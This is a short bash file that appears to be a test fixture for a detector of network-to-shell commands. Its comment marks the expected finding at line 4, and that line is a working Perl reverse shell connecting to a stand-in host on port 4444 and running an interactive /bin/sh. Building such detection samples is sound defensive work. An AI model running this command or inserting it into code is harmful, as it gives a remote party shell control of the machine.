#!/bin/bash
# shows: a connection in Perl
# expect: network-to-shell at line 4
perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton("198.51.100.7"))); open(STDIN,">&S"); exec("/bin/sh -i");'
